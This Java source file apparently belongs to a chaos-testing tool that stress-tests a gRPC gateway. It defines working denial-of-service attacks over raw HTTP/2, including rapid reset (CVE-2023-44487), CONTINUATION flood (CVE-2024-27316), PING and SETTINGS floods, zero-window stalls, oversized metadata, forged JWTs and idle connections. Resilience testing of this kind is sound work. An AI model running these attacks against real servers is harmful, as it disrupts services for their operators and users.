package org.glauber.chaos.attack;

import static org.glauber.chaos.attack.RawConnection.framed;

import io.grpc.health.v1.HealthCheckRequest;
import io.grpc.health.v1.HealthGrpc;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Base64;
import java.util.Map;
import java.util.concurrent.ThreadLocalRandom;

/** Attacks that need no credentials, only access to a gateway's port. */
enum AnonymousAttack implements Attack {
  /** Generation calls that send headers and nothing else. */
  BARE_HEADERS(new Rate(2, 100, 12)) {
    @Override
    public void strike(Strike strike) throws IOException {
      RawConnection connection = strike.connection().begin();
      for (int k = 0; k < strike.times(); k++) {
        connection.headers(Messages.GENERATE_TEXT, Map.of());
      }
      connection.send();
    }
  },

  /** Health checks, which need no credentials, that send headers and nothing else. */
  BARE_HEALTH_CHECKS(new Rate(1, 100, 12)) {
    @Override
    public void strike(Strike strike) throws IOException {
      RawConnection connection = strike.connection().begin();
      for (int k = 0; k < strike.times(); k++) {
        connection.headers(CHECK, Map.of());
      }
      connection.send();
    }
  },

  /** Messages of 4 MiB to the health and generation services, of which only 512 KiB are sent. */
  HALF_MESSAGES(new Rate(1, 8, 12)) {
    @Override
    public void strike(Strike strike) throws IOException {
      RawConnection connection = strike.connection().begin();
      for (int k = 0; k < strike.times(); k++) {
        connection.headers(strike.isOdd() ? CHECK : Messages.GENERATE_TEXT, Map.of());
        connection.part(framed(Messages.LONGEST, new byte[1 << 19]));
        connection.send();
      }
    }
  },

  /** Messages in DATA frames of one byte each. */
  SMALL_FRAMES(new Rate(0.5, 1_000, 12)) {
    @Override
    public void strike(Strike strike) throws IOException {
      RawConnection connection = strike.connection().begin().headers(CHECK, Map.of());
      connection.part(framed(Messages.LONGEST, new byte[0]));
      for (int k = 0; k < strike.times(); k++) {
        connection.part(new byte[1]);
      }
      connection.send();
    }
  },

  /** Health watches of unknown services with long names, which stay open. */
  HEALTH_WATCHES(new Rate(2, 16, 20)) {
    @Override
    public void strike(Strike strike) throws IOException {
      RawConnection connection = strike.connection().begin();
      for (int k = 0; k < strike.times(); k++) {
        connection.call(HealthGrpc.getWatchMethod().getFullMethodName(), Map.of(), healthOf(900));
      }
      connection.send();
    }
  },

  /** Health checks of unknown services, one after the other. */
  HEALTH_CHECKS(new Rate(2, 50, 1)) {
    @Override
    public void strike(Strike strike) throws IOException {
      RawConnection connection = strike.connection().begin();
      for (int k = 0; k < strike.times(); k++) {
        connection.call(CHECK, Map.of(), healthOf(strike.isOdd() ? 10 : 900));
      }
      connection.send();
    }
  },

  /** Health checks with a flow-control window of 0, so that responses cannot be sent. */
  CLOSED_WINDOWS(new Rate(0.5, 100, 12)) {
    @Override
    public void strike(Strike strike) throws IOException {
      RawConnection connection = strike.connection().begin(0);
      for (int k = 0; k < strike.times(); k++) {
        connection.call(CHECK, Map.of(), healthOf(0));
      }
      connection.send();
    }
  },

  /** Reflection calls that stay open. */
  REFLECTION(new Rate(0.5, 8, 12)) {
    @Override
    public void strike(Strike strike) throws IOException {
      RawConnection connection = strike.connection().begin();
      for (int k = 0; k < strike.times(); k++) {
        connection.headers(Messages.REFLECT, Map.of());
      }
      connection.send();
    }
  },

  /** Streams that are reset immediately after opening (rapid reset, CVE-2023-44487). */
  RAPID_RESETS(new Rate(1, 400, 1)) {
    @Override
    public void strike(Strike strike) throws IOException {
      RawConnection connection = strike.connection().begin();
      for (int k = 0; k < strike.times(); k++) {
        connection.headers(CHECK, Map.of());
        connection.reset(connection.stream());
      }
      connection.send();
    }
  },

  /** Thousands of PING frames. */
  PINGS(new Rate(0.5, 2_000, 1)) {
    @Override
    public void strike(Strike strike) throws IOException {
      RawConnection connection = strike.connection().begin();
      for (int k = 0; k < strike.times(); k++) {
        connection.frame(RawConnection.PING, 0, 0, new byte[8]);
      }
      connection.send();
    }
  },

  /** Hundreds of SETTINGS and PRIORITY frames, which need no stream. */
  CONTROL_FRAMES(new Rate(0.5, 500, 1)) {
    @Override
    public void strike(Strike strike) throws IOException {
      RawConnection connection = strike.connection().begin();
      for (int k = 0; k < strike.times(); k++) {
        connection.settings(FEW_BYTES + k);
        connection.frame(RawConnection.PRIORITY, 0, 2 * k + 1, new byte[] {0, 0, 0, 0, 1});
      }
      connection.send();
    }
  },

  /** Calls of methods that do not exist. */
  UNKNOWN_METHODS(new Rate(1, 50, 1)) {
    @Override
    public void strike(Strike strike) throws IOException {
      RawConnection connection = strike.connection().begin();
      for (int k = 0; k < strike.times(); k++) {
        connection.call("nobody." + strike.number() + "/Knows" + k, Map.of(), healthOf(900));
      }
      connection.send();
    }
  },

  /** Metadata of the maximum size and above it. */
  HUGE_METADATA(new Rate(1, 8, 1)) {
    @Override
    public void strike(Strike strike) throws IOException {
      RawConnection connection = strike.connection().begin();
      int length = strike.isOdd() ? 12_000 : 24_000;
      for (int k = 0; k < strike.times(); k++) {
        byte[] block = connection.block(CHECK, Map.of("x-words", "~".repeat(length)));
        byte[] first = Arrays.copyOf(block, Math.min(block.length, FRAME));
        byte[] rest = Arrays.copyOfRange(block, first.length, block.length);
        connection.frame(RawConnection.HEADERS, 0, connection.stream(), first);
        connection.frame(
            RawConnection.CONTINUATION, RawConnection.END_HEADERS, connection.stream(), rest);
      }
      connection.send();
    }
  },

  /** CONTINUATION frames that never end the headers (CONTINUATION flood, CVE-2024-27316). */
  ENDLESS_HEADERS(new Rate(0.5, 64, 12)) {
    @Override
    public void strike(Strike strike) throws IOException {
      RawConnection connection = strike.connection().begin();
      connection.frame(RawConnection.HEADERS, 0, 1, connection.block(CHECK, Map.of()));
      for (int k = 0; k < strike.times(); k++) {
        connection.frame(RawConnection.CONTINUATION, 0, 1, new byte[FRAME]);
        connection.send();
      }
    }
  },

  /** JWTs with a key id that their issuer does not have. */
  INVENTED_TOKENS(new Rate(1, 50, 1)) {
    @Override
    public void strike(Strike strike) throws IOException {
      RawConnection connection = strike.connection().begin();
      for (int k = 0; k < strike.times(); k++) {
        connection.headers(Messages.LIST_MODELS, Messages.bearing(token()));
      }
      connection.send();
    }
  },

  /** API keys that do not exist. */
  INVENTED_KEYS(new Rate(1, 50, 1)) {
    @Override
    public void strike(Strike strike) throws IOException {
      RawConnection connection = strike.connection().begin();
      for (int k = 0; k < strike.times(); k++) {
        String key = "key-" + ThreadLocalRandom.current().nextLong();
        connection.call(Messages.LIST_MODELS, Messages.bearing(key), new byte[0]);
      }
      connection.send();
    }
  },

  /** Another protocol, or random bytes. */
  GARBAGE(new Rate(1, 1, 1)) {
    @Override
    public void strike(Strike strike) throws IOException {
      byte[] garbage = new byte[FRAME];
      ThreadLocalRandom.current().nextBytes(garbage);
      byte[] web = "GET / HTTP/1.1\r\nHost: localhost\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
      RawConnection connection = strike.isOdd() ? strike.connection() : strike.connection().begin();
      connection.bytes(strike.number() % 4 == 1 ? web : garbage).send();
    }
  },

  /**
   * Idle connections from a separate address, because they exhaust the limit of connections per
   * address.
   */
  SILENT_CONNECTIONS(new Rate(80, 1, 25)) {
    @Override
    public void strike(Strike strike) {
      // The open connection is the attack.
    }
  };

  private static final String CHECK = HealthGrpc.getCheckMethod().getFullMethodName();
  private static final int FRAME = 16_384;
  private static final int FEW_BYTES = 100;

  private final Rate pace;

  AnonymousAttack(Rate pace) {
    this.pace = pace;
  }

  @Override
  public Rate pace() {
    return pace;
  }

  /** A health check request for a service with a unique name. */
  private static byte[] healthOf(int length) {
    String number = Long.toString(ThreadLocalRandom.current().nextLong());
    String name = length == 0 ? "" : number + "x".repeat(length);
    return HealthCheckRequest.newBuilder().setService(name).build().toByteArray();
  }

  private static String token() {
    String header =
        "{\"alg\":\"RS256\",\"kid\":\"%x\"}".formatted(ThreadLocalRandom.current().nextLong());
    String claims = "{\"iss\":\"https://issuer.example\",\"sub\":\"anna\",\"exp\":4000000000}";
    return encoded(header) + "." + encoded(claims) + "." + encoded("x".repeat(256));
  }

  private static String encoded(String text) {
    return Base64.getUrlEncoder()
        .withoutPadding()
        .encodeToString(text.getBytes(StandardCharsets.UTF_8));
  }
}
